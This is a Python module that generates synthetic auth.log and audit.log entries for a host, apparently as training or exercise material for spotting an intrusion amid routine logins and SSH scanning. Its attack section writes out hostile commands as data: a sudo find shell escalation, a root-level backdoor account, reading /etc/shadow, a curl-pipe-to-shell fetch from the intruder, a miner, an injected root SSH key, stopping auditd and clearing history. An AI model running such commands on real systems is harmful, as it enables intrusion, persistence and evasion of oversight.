"""auth.log and audit.log of one host. A stolen user name, a guessed password, a second root, a miner."""

from datetime import datetime, timedelta

from example_logs.world import (
    HOST,
    INTRUDER,
    INTRUDER_AGAIN,
    OFFICE,
    PEOPLE,
    RUNNERS,
    Chance,
    Event,
    clock,
    in_order,
)

MINER = "/dev/shm/.x/kworker"  # noqa: S108 (what a log says, not a file of ours)

_chance = Chance("host")
_NAMES = ("oracle", "admin", "test", "postgres", "ubuntu", "git", "user", "ftp", "pi", "es")

_PROGRAMS = (
    ("/usr/bin/systemctl", ["systemctl", "restart", "rates-api.service"]),
    ("/usr/bin/git", ["git", "-C", "/srv/rates-api", "rev-parse", "HEAD"]),
    ("/usr/bin/docker", ["docker", "compose", "ps"]),
    ("/usr/bin/df", ["df", "-h", "/var"]),
    ("/usr/bin/apt-get", ["apt-get", "-qq", "update"]),
    ("/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"]),
    ("/usr/bin/curl", ["curl", "-fsS", "http://127.0.0.1:8080/healthz"]),
)


def _line(moment: datetime, program: str, text: str) -> Event:
    return moment, f"{moment.strftime('%Y-%m-%dT%H:%M:%S.%f')}+00:00 {HOST} {program}: {text}"


def _login(moment: datetime, user: str, address: str) -> list[Event]:
    pid, port = _chance.number(2000, 60000), _chance.number(33000, 60000)
    key = "ED25519 SHA256:" + _chance.hex(43)
    out = moment + timedelta(seconds=_chance.number(40, 1500))
    said = f"Accepted publickey for {user} from {address} port {port} ssh2: {key}"
    opened = f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by {user}(uid=0)"
    return [
        _line(moment, f"sshd[{pid}]", said),
        _line(moment + timedelta(milliseconds=9), f"sshd[{pid}]", opened),
        _line(out, f"sshd[{pid}]", f"Disconnected from user {user} {address} port {port}"),
        _line(
            out + timedelta(milliseconds=4),
            f"sshd[{pid}]",
            f"pam_unix(sshd:session): session closed for user {user}",
        ),
    ]


def _sudo(moment: datetime, user: str, command: str) -> list[Event]:
    return [
        _line(moment, "sudo", f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
    ]


def _daily() -> list[Event]:
    events = []
    for moment in _chance.times(46, "06:30:00", "17:40:00"):
        user = _chance.one("deploy", "deploy", *(name.split("-")[0] for name in PEOPLE))
        events += _login(moment, user, _chance.one(*RUNNERS) if user == "deploy" else OFFICE)
    for moment in _chance.times(14, "07:00:00", "17:00:00"):
        events += _sudo(moment, "deploy", "/usr/bin/systemctl restart rates-api.service")
    for hour in range(24):
        moment = clock(f"{hour:02}:17:01")
        pid = _chance.number(1000, 60000)
        events.append(
            _line(
                moment,
                f"CRON[{pid}]",
                "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            )
        )
        events.append(
            _line(
                moment + timedelta(milliseconds=30),
                f"CRON[{pid}]",
                "pam_unix(cron:session): session closed for user root",
            )
        )
    return events


def _background() -> list[Event]:
    """The noise of the internet: many addresses, a try or two each."""
    events = []
    for moment in _chance.times(90, "00:00:00", "23:59:00"):
        address = f"198.18.{_chance.number(0, 255)}.{_chance.number(1, 254)}"
        name, pid = _chance.one(*_NAMES), _chance.number(2000, 60000)
        port = _chance.number(33000, 60000)
        events += [
            _line(moment, f"sshd[{pid}]", f"Invalid user {name} from {address} port {port}"),
            _line(
                moment + timedelta(seconds=2),
                f"sshd[{pid}]",
                f"Failed password for invalid user {name} from {address} port {port} ssh2",
            ),
            _line(
                moment + timedelta(seconds=3),
                f"sshd[{pid}]",
                f"Connection closed by invalid user {name} {address} port {port} [preauth]",
            ),
        ]
    return events


def _attack() -> list[Event]:
    events = []
    for number in range(16):
        moment = clock("11:52:03") + timedelta(seconds=7 * number, milliseconds=130 * number)
        said = f"Failed password for svc-backup from {INTRUDER} port {41000 + 13 * number} ssh2"
        events.append(_line(moment, f"sshd[{30100 + number}]", said))
    events += [
        _line(
            clock("11:54:11"),
            "sshd[30131]",
            f"Accepted password for svc-backup from {INTRUDER} port 41377 ssh2",
        ),
        _line(
            clock("11:54:11"),
            "sshd[30131]",
            "pam_unix(sshd:session): session opened for user svc-backup(uid=1007) by svc-backup(uid=0)",
        ),
        *_sudo(clock("11:56:40"), "svc-backup", "/usr/bin/find /var/backups -name x -exec /bin/sh ; -quit"),
        _line(clock("11:58:22"), "useradd[30266]", "new group: name=sysadm, GID=1011"),
        _line(
            clock("11:58:22"),
            "useradd[30266]",
            "new user: name=sysadm, UID=0, GID=1011, home=/var/lib/.sysadm, shell=/bin/bash, from=/dev/pts/1",
        ),
        _line(clock("11:58:31"), "passwd[30271]", "pam_unix(passwd:chauthtok): password changed for sysadm"),
    ]
    return events


def auth_log() -> str:
    """Write auth.log."""
    return in_order(_daily() + _background() + _attack())


def _exec(moment: datetime, serial: int, user: int, program: str, arguments: list[str]) -> list[Event]:
    """Write the records of one started program."""
    head = f"msg=audit({moment.timestamp():.3f}:{serial}):"
    call = (
        f"arch=c000003e syscall=59 success=yes exit=0 a0=5581 a1=5582 a2=5583 a3=8 items=2 ppid=30140 "
        f"pid={30000 + serial % 9000} auid={user} uid={0 if user == 1007 else user} gid=0 euid=0 tty=pts1 ses=88 "
        f'comm="{program.rsplit("/", 1)[-1][:15]}" exe="{program}" key="exec"'
    )
    # auditd writes an argument in hex when it holds a space, a quote or a control character.
    words = " ".join(
        f"a{n}={word.encode().hex().upper()}" if set(word) & set(" \"'\t") else f'a{n}="{word}"'
        for n, word in enumerate(arguments)
    )
    return [
        (moment, f"node={HOST} type=SYSCALL {head} {call}"),
        (moment + timedelta(microseconds=1), f"node={HOST} type=EXECVE {head} argc={len(arguments)} {words}"),
    ]


def audit_log() -> str:
    """Write audit.log."""
    serial = 4100
    events: list[Event] = []
    for moment in _chance.times(120, "00:05:00", "23:55:00"):
        serial += _chance.number(1, 5)
        events += _exec(moment, serial, 1001, *_chance.one(*_PROGRAMS))
    attack = (
        ("11:57:05", "/usr/bin/cat", ["cat", "/etc/shadow"]),
        ("12:01:30", "/usr/bin/dash", ["sh", "-c", f"curl -fsSL http://{INTRUDER_AGAIN}/i.sh | sh"]),
        ("12:01:34", MINER, [MINER, "-o", f"stratum+tcp://{INTRUDER_AGAIN}:3333", "-u", "w1"]),
        ("12:04:02", "/usr/bin/bash", ["bash", "-c", "cat /tmp/k >> /root/.ssh/authorized_keys"]),
        ("12:06:48", "/usr/bin/systemctl", ["systemctl", "stop", "auditd"]),
        ("12:07:15", "/usr/bin/bash", ["bash", "-c", "history -c; unset HISTFILE"]),
    )
    for number, (when, program, arguments) in enumerate(attack):
        events += _exec(clock(when), 9000 + number, 1007, program, arguments)
    return in_order(events)
